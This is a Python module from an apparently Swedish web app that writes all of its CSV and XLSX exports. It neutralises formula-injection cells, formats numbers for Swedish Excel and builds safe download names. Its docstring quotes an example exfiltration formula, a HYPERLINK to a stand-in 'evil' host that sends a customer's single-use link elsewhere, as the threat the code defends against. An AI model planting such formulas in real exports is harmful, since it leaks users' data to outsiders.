"""Every spreadsheet Kundröst writes is written here: CSV and XLSX.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) run a cell
that begins with `=`, `+`, `-` or `@` as a formula: a provider named
`=HYPERLINK("http://evil.example/?d="&A2,"Öppna")` becomes a link that sends
the next cell - a customer's single-use link - to someone else. Following
OWASP's guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), every text cell
that could start a formula is written with a single quote (`'`) in front, so
it is shown as the text it is, quote included. Numbers are written as
numbers.

A cell is neutralised when it begins with a tab or a carriage return, or when
its first character that is not white space or an invisible one (Unicode
categories Z* and C*: spaces, line breaks, zero-width and direction marks)
is one of `= + - @`, their full-width forms `＝ ＋ － ＠`, the small forms
`﹦ ﹢ ﹣` or the minus sign `−` (which some locales' programs read as the
plain ones). So ` =1+1` and `\\u200b=1+1` are neutralised too: what a
program skips before deciding must not hide a formula. The same holds for
each piece after a `;` or `,` ("Evil AB;=1+1"), where a program that
splits on its list separator - `;` in Swedish Excel - would start a cell;
and every text field is quoted, so that a program that respects quotes
never splits inside one.

Every CSV is written for Swedish Excel (`SWEDISH_EXCEL`, issue 9): `;`
between cells, numbers unquoted with a decimal comma (`4,95`), text quoted,
CR LF line ends, UTF-8 with a byte order mark. `csv_text`/`csv_response`
take another `CsvDialect` where a reader needs one; nothing uses one yet.

XLSX (`xlsx_bytes`, `xlsx_response`) is written with openpyxl in its
write-only (streaming) mode: numbers are native numbers with number formats
(`Column.kind`), text cells pass through `safe_cell` as in CSV and are
stored as strings (data type "s"), never as formulas or error values.

tests/test_spreadsheets.py fails if another module in app/ imports a
spreadsheet writer (csv, openpyxl, xlsxwriter, ...) or sends a spreadsheet
content type itself.
"""

from __future__ import annotations

import io
import math
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import quote

from flask import Response
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

#: Characters that make a spreadsheet program read a cell as a formula:
#: the ASCII signs, their full-width and small forms, and the minus sign.
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\u2212")
#: Where a program that splits on its own list separator (";" in Swedish
#: Excel, "," elsewhere) and ignores quotes would start a new cell.
SEPARATORS = re.compile("[;,]")
#: Characters that OWASP lists as dangerous in the very first position.
FIRST_CHARACTER_STARTS = frozenset("\t\r")
#: What a cell is given in front when it could start a formula.
NEUTRALISING_PREFIX = "'"

#: What a cell may hold: text, a number, a date, or nothing.
Cell = str | int | float | Decimal | date | datetime | None

CSV_MIMETYPE = "text/csv"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _is_skipped(character: str) -> bool:
    # White space and invisible characters a program may pass over before the formula sign.
    return character.isspace() or unicodedata.category(character)[0] in "ZC"


def could_start_formula(text: str) -> bool:
    """Whether a spreadsheet program might read `text`, or a piece of it, as a formula.

    The cell's start, and also the start of every piece after a ";" or ","
    ("Evil AB;=1+1"): a program that splits the line on its own list
    separator would begin a cell there.
    """
    if text[:1] in FIRST_CHARACTER_STARTS:
        return True
    return any(_piece_starts_formula(piece) for piece in SEPARATORS.split(text))


def _piece_starts_formula(piece: str) -> bool:
    for character in piece:
        if not _is_skipped(character):
            return character in FORMULA_STARTS
    return False


def safe_cell(value: Cell) -> str | int | float | Decimal:
    """The value as it may go into a spreadsheet cell.

    Text that could start a formula gets NEUTRALISING_PREFIX (`'`) in front;
    other text is returned unchanged. Numbers (not bool) are returned as
    they are: a number is never a formula. Dates become ISO 8601 text
    (`2026-11-30`), None an empty cell. Anything else raises TypeError, so
    that no value reaches a spreadsheet without passing this check.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        raise TypeError("a bool is not a spreadsheet cell: write the text the reader should see")
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    if isinstance(value, str):
        return NEUTRALISING_PREFIX + value if could_start_formula(value) else value
    raise TypeError(f"{type(value).__name__} is not a spreadsheet cell")


# --- CSV ------------------------------------------------------------------------


@dataclass(frozen=True)
class CsvDialect:
    """How a CSV file separates cells and writes a number's decimal point.

    `separator` goes between cells (one character), `decimal_sign` replaces
    the "." of a number (one character). Text is always quoted, lines end
    with CR LF and the file begins with a byte order mark in every dialect.
    """

    separator: str
    decimal_sign: str


#: What Swedish Excel reads when a file is opened: its list separator is ";"
#: and its decimal sign ",", so `4,95` is the number 4.95 and "a;b" (quoted)
#: one cell. No "sep=;" line: with one, Excel ignores the byte order mark and
#: reads Å, Ä, Ö as two characters each.
SWEDISH_EXCEL = CsvDialect(separator=";", decimal_sign=",")
#: The comma-separated form with a decimal point (RFC 4180, English-locale programs).
COMMA_SEPARATED = CsvDialect(separator=",", decimal_sign=".")


def number_text(value: int | float | Decimal, decimal_sign: str = ".") -> str:
    """A number as plain digits, `decimal_sign` for the point, never an exponent.

    4.95 -> "4,95" (decimal_sign ","), 1e-05 -> "0,00001", 5.0 -> "5,0"
    (a float keeps its shortest round-trip digits, Python's repr), -5 -> "-5".
    A NaN or an infinity raises ValueError: no spreadsheet holds one, so
    the caller writes the text the reader should see (e.g. "..").
    """
    if isinstance(value, bool):
        raise TypeError("a bool is not a spreadsheet cell: write the text the reader should see")
    if isinstance(value, int):
        return str(value)
    number = Decimal(repr(value)) if isinstance(value, float) else value
    if not number.is_finite():
        raise ValueError(f"{value!r} is not a number a spreadsheet can hold")
    return format(number, "f").replace(".", decimal_sign)


def _csv_field(value: Cell, dialect: CsvDialect) -> str:
    # Numbers bare (a quoted "4,95" is text to some readers), text quoted with "" doubled inside.
    cell = safe_cell(value)
    if value is None:
        return ""
    if isinstance(cell, str):
        return '"' + cell.replace('"', '""') + '"'
    return number_text(cell, dialect.decimal_sign)


def csv_text(rows: Iterable[Sequence[Cell]], dialect: CsvDialect = SWEDISH_EXCEL) -> str:
    """The rows (the first one usually the header) as CSV text, every cell through `safe_cell`.

    In `dialect` (default `SWEDISH_EXCEL`): cells joined by its separator;
    numbers (int, float, Decimal) unquoted with its decimal sign (`4,95`);
    text, dates (ISO 8601, `2026-11-30`) and neutralised text quoted, `"`
    doubled inside, so that a separator or line break inside a name never
    splits the cell; None an empty, unquoted field. CR LF line ends, and a
    byte order mark in front so that Excel reads the file as UTF-8 (Å, Ä,
    Ö, Arabic script, Ethiopic). Raises TypeError for a bool or a value that
    is no `Cell`, ValueError for a NaN or infinite number.
    """
    lines = (dialect.separator.join(_csv_field(value, dialect) for value in row) + "\r\n" for row in rows)
    return "\ufeff" + "".join(lines)


def csv_response(filename: str, rows: Iterable[Sequence[Cell]], dialect: CsvDialect = SWEDISH_EXCEL) -> Response:
    """A CSV download of `rows` (see `csv_text`) named `filename`, never cached (Cache-Control: no-store).

    `filename` may hold Swedish letters (see `content_disposition`); a
    ValueError says when it is empty or holds a path separator or a control
    character.
    """
    return Response(
        csv_text(rows, dialect),
        mimetype=CSV_MIMETYPE,
        headers={"Content-Disposition": content_disposition(filename), "Cache-Control": "no-store"},
    )


# --- Download names ---------------------------------------------------------------

#: What may not stand in the plain filename="..." (quotes, escapes, "%" that some browsers decode, ";").
_UNSAFE_IN_FALLBACK = re.compile(r'[^\x20-\x7e]|["\\%;]')


def ascii_filename(filename: str) -> str:
    """`filename` in printable ASCII for the plain `filename=` parameter: "Resultat Nacka Älta.xlsx" -> "Resultat Nacka Alta.xlsx".

    Letters lose their accents (Unicode NFKD, combining marks dropped: å ä ö
    -> a a o); what is still not printable ASCII, and `" \\\\ % ;`, become "_".
    """
    decomposed = unicodedata.normalize("NFKD", filename)
    stripped = "".join(c for c in decomposed if not unicodedata.combining(c))
    return _UNSAFE_IN_FALLBACK.sub("_", stripped)


def content_disposition(filename: str) -> str:
    """The Content-Disposition value of a download named `filename` (RFC 6266, RFC 5987).

    `attachment; filename="<ascii_filename>"; filename*=UTF-8''<percent-encoded
    UTF-8>`: browsers that read filename* (all current ones) save the
    name as given, Swedish letters and all; older ones take the ASCII form.
    Raises ValueError for an empty name, a path separator (/ or \\\\) or a
    control character: the caller builds the name, so that is a bug.
    """
    if not filename or any(c in "/\\" or unicodedata.category(c) == "Cc" for c in filename):
        raise ValueError(f"unsafe download name {filename!r}")
    return f"attachment; filename=\"{ascii_filename(filename)}\"; filename*=UTF-8''{quote(filename, safe='')}"


# --- XLSX -----------------------------------------------------------------------

#: Excel number format codes per column kind. The codes are the same in every
#: locale; Excel shows "." as the reader's decimal sign, so Swedish Excel shows
#: 4.95 in "0.00" as 4,95 and 0.314 in "0.0 %" as 31,4 % ("%" multiplies by 100).
NUMBER_FORMATS = {
    "text": "General",
    "integer": "0",
    "decimal1": "0.0",
    "decimal2": "0.00",
    "percent": "0 %",
    "percent1": "0.0 %",
    "date": "yyyy-mm-dd",
}
#: The column kinds a `Column` may have.
KINDS = frozenset(NUMBER_FORMATS)
#: The numeric kinds and the decimals each shows (for the column width).
_DECIMALS = {"integer": 0, "decimal1": 1, "decimal2": 2, "percent": 0, "percent1": 1}

#: Excel's limits: a sheet's name, rows and columns per sheet.
MAX_TITLE = 31
MAX_ROWS = 1_048_576
MAX_COLUMNS = 16_384
#: Characters Excel refuses in a sheet's name.
_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\\x00-\x1f\x7f]")
#: How many rows the column widths are measured on: enough to be right, few enough to be quick at 100,000 rows.
_WIDTH_SAMPLE = 500
_MIN_WIDTH, _MAX_WIDTH = 6, 60


@dataclass(frozen=True)
class Column:
    """A column of a `Sheet`: its heading (text in row 1) and its kind, one of `KINDS`.

    "text" any text; "integer" whole numbers (0); "decimal1", "decimal2"
    numbers with one or two decimals (4,9 / 4,95); "percent", "percent1" a
    0-1 fraction shown as a percentage with none or one decimal (0.314 ->
    31 % / 31,4 %); "date" a `date`, shown yyyy-mm-dd. Raises ValueError for
    another kind.
    """

    heading: str
    kind: str = "text"

    def __post_init__(self):
        if self.kind not in KINDS:
            raise ValueError(f"column kind {self.kind!r} is not one of {sorted(KINDS)}")


@dataclass(frozen=True)
class Sheet:
    """One sheet of an XLSX workbook: a table with a header row, and notes under it.

    `title` is the tab's name (`sheet_titles` makes it one Excel accepts);
    every row has one `Cell` per column (shorter rows end in empty cells,
    longer ones raise ValueError). A str in a numeric or date column (".."
    for a suppressed figure, "missing") is written as text; a number in a
    "text" column, a number in a "date" column, a date in a numeric one or
    a fraction in an "integer" one raises TypeError/ValueError in
    `xlsx_bytes`. `notes` are lines written under the table after an
    empty row (e.g. "Figures from fewer than 5 answers are not shown").
    """

    title: str
    columns: Sequence[Column]
    rows: Sequence[Sequence[Cell]]
    notes: Sequence[str] = ()


def _utf16_length(text: str) -> int:
    # Excel counts a name's length in UTF-16 code units: a character beyond U+FFFF is two.
    return len(text.encode("utf-16-le")) // 2


def _cut(text: str, length: int) -> str:
    while _utf16_length(text) > length:
        text = text[:-1]
    return text


def sheet_titles(titles: Sequence[str]) -> list[str]:
    """Sheet names Excel accepts, one per title, in order, unique regardless of case.

    Excel's rules: at most 31 characters, none of `[ ] : * ? / \\\\`, no
    apostrophe first or last, not empty, not "History" (reserved). Forbidden
    and control characters become " " (runs of white space one space:
    "Q1: NKI" -> "Q1 NKI"), the name is cut to 31 characters, an
    empty one becomes "Sheet N" (N the 1-based position), and a name used
    before (any case) gets " (2)", " (3)", ... with the name cut to fit.
    """
    chosen: list[str] = []
    taken: set[str] = set()
    for position, title in enumerate(titles, 1):
        spaced = " ".join(_TITLE_FORBIDDEN.sub(" ", title).split())
        base = _cut(spaced.strip("'").strip(), MAX_TITLE).strip()
        if not base or base.casefold() == "history":
            base = f"{base} {position}".strip() if base else f"Sheet {position}"
        name, copy = base, 1
        while name.casefold() in taken:
            copy += 1
            suffix = f" ({copy})"
            name = _cut(base, MAX_TITLE - len(suffix)).rstrip().rstrip("'") + suffix
        taken.add(name.casefold())
        chosen.append(name)
    return chosen


def _xlsx_text(value: str) -> str:
    # XML 1.0 cannot hold most control characters (openpyxl refuses them): U+FFFD shows where one was.
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", safe_cell(value))


def _checked_number(value: Cell, kind: str, where: str) -> int | float:
    # A native number for `kind`, or an error naming the cell: a wrong type is the caller's bug.
    if isinstance(value, bool) or not isinstance(value, (int, float, Decimal)):
        raise TypeError(f"{where}: {type(value).__name__} in a {kind} column")
    if not math.isfinite(value):
        raise ValueError(f"{where}: {value!r} is not a number a spreadsheet can hold; write text such as '..'")
    if kind == "integer":
        if value != int(value):
            raise ValueError(f"{where}: {value!r} is not a whole number")
        return int(value)
    return float(value) if isinstance(value, Decimal) else value


def _cell_value(value: Cell, kind: str, where: str) -> str | int | float | date:
    # What goes into an XLSX cell: text neutralised, numbers native, dates as dates.
    if isinstance(value, str):
        return _xlsx_text(value)
    if kind in _DECIMALS:
        return _checked_number(value, kind, where)
    if kind == "date" and isinstance(value, date) and not isinstance(value, datetime):
        return value
    raise TypeError(f"{where}: {type(value).__name__} in a {kind} column")


def _shown_length(value: Cell, kind: str) -> int:
    # Roughly how many characters Excel shows; 0 for a value the writer will refuse (with its place).
    if isinstance(value, str):
        return max(len(line) for line in safe_cell(value).split("\n"))
    if isinstance(value, date):
        return 10
    if kind in _DECIMALS and isinstance(value, (int, float, Decimal)) and not isinstance(value, bool) \
            and math.isfinite(value):
        percent = kind.startswith("percent")
        return len(f"{float(value) * (100 if percent else 1):.{_DECIMALS[kind]}f}") + (2 if percent else 0)
    return 0


def _column_widths(sheet: Sheet) -> list[float]:
    # Heading (bold: a tenth wider) or the widest of the first rows, plus a margin, within bounds.
    widths = [len(safe_cell(column.heading)) * 1.1 for column in sheet.columns]
    for row in sheet.rows[:_WIDTH_SAMPLE]:
        for index, (value, column) in enumerate(zip(row, sheet.columns)):
            widths[index] = max(widths[index], _shown_length(value, column.kind))
    return [min(max(width + 2, _MIN_WIDTH), _MAX_WIDTH) for width in widths]


def _write_sheet(workbook: Workbook, sheet: Sheet, title: str) -> None:
    if not 0 < len(sheet.columns) <= MAX_COLUMNS:
        raise ValueError(f"sheet {title!r}: {len(sheet.columns)} columns (Excel holds 1 to {MAX_COLUMNS:,})")
    used_rows = 1 + len(sheet.rows) + (1 + len(sheet.notes) if sheet.notes else 0)
    if used_rows > MAX_ROWS:
        raise ValueError(f"sheet {title!r}: {used_rows:,} rows (Excel holds {MAX_ROWS:,})")
    worksheet = workbook.create_sheet(title)
    # A write-only sheet takes its widths and panes before the first row.
    for index, width in enumerate(_column_widths(sheet), 1):
        worksheet.column_dimensions[_column_letter(index)].width = width
    worksheet.freeze_panes = "A2"
    worksheet.print_title_rows = "1:1"

    bold = Font(bold=True)
    header = []
    for column in sheet.columns:
        cell = WriteOnlyCell(worksheet, _xlsx_text(column.heading))
        cell.data_type = "s"
        cell.font = bold
        header.append(cell)
    worksheet.append(header)

    # One styled cell per column, refilled row by row: the row is written out at append,
    # so nothing but the current row is kept in memory.
    numbers = [_styled(worksheet, NUMBER_FORMATS[column.kind]) for column in sheet.columns]
    texts = [_styled(worksheet, "General") for _ in sheet.columns]
    width = len(sheet.columns)
    for row_number, row in enumerate(sheet.rows, 2):
        if len(row) > width:
            raise ValueError(f"sheet {title!r} row {row_number}: {len(row)} cells for {width} columns")
        out: list = []
        for index, (value, column) in enumerate(zip(row, sheet.columns)):
            if value is None:
                out.append(None)
                continue
            where = f"sheet {title!r} cell {_column_letter(index + 1)}{row_number}"
            written = _cell_value(value, column.kind, where)
            cell = texts[index] if isinstance(written, str) else numbers[index]
            cell.value = written
            if isinstance(written, str):
                cell.data_type = "s"  # never "f" (formula) or "e" (an error such as "#N/A")
            out.append(cell)
        worksheet.append(out)

    if sheet.notes:
        worksheet.append([])
        for note in sheet.notes:
            cell = WriteOnlyCell(worksheet, _xlsx_text(note))
            cell.data_type = "s"
            worksheet.append([cell])


def _styled(worksheet, number_format: str):
    cell = WriteOnlyCell(worksheet)
    cell.number_format = number_format
    return cell


def _column_letter(index: int) -> str:
    # 1 -> A, 27 -> AA (openpyxl.utils.get_column_letter, without importing more of openpyxl).
    letters = ""
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(ord("A") + remainder) + letters
    return letters


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook (Office Open XML) of `sheets`, in order, as bytes.

    Each sheet: the headings in row 1, bold and frozen (and repeated on
    every printed page); the rows below; the notes after an empty row.
    Numbers are native numbers with the column kind's format
    (`NUMBER_FORMATS`), dates native dates (yyyy-mm-dd), every text cell
    (headings and notes too) passes through `safe_cell` and is stored as a
    string, never a formula; control characters XML cannot hold become
    U+FFFD, and text beyond Excel's 32,767 characters is cut (openpyxl).
    Column widths fit the heading and the first 500 rows (6-60
    characters). Titles pass through `sheet_titles`.

    Written with openpyxl's write-only mode: rows stream to a temporary
    file, so memory stays at a few MB for 100,000 rows x 15 columns beside
    the rows themselves (see tests/test_spreadsheets.py). Raises ValueError
    for no sheets, an empty column list, more rows or columns than Excel
    holds, a row longer than the columns, a non-finite number or a fraction
    in an "integer" column; TypeError for a value of the wrong kind.
    """
    if not sheets:
        raise ValueError("a workbook needs at least one sheet")
    workbook = Workbook(write_only=True)
    workbook.properties.creator = "Kundröst"
    refused: Exception | None = None
    try:
        for sheet, title in zip(sheets, sheet_titles([sheet.title for sheet in sheets])):
            _write_sheet(workbook, sheet, title)
    except (TypeError, ValueError) as error:
        refused = error
    # Saved even when a cell was refused: saving is what closes the streamed sheets and
    # removes their temporary files; the half-written workbook is then thrown away.
    buffer = io.BytesIO()
    workbook.save(buffer)
    if refused is not None:
        raise refused
    return buffer.getvalue()


def xlsx_response(filename: str, sheets: Sequence[Sheet]) -> Response:
    """An XLSX download of `sheets` (see `xlsx_bytes`) named `filename`, never cached (Cache-Control: no-store).

    `filename` may hold Swedish letters (`content_disposition` gives an
    ASCII form beside the UTF-8 one); ValueError for an empty name, a path
    separator or a control character, and for what `xlsx_bytes` refuses.
    """
    return Response(
        xlsx_bytes(sheets),
        mimetype=XLSX_MIMETYPE,
        headers={"Content-Disposition": content_disposition(filename), "Cache-Control": "no-store"},
    )
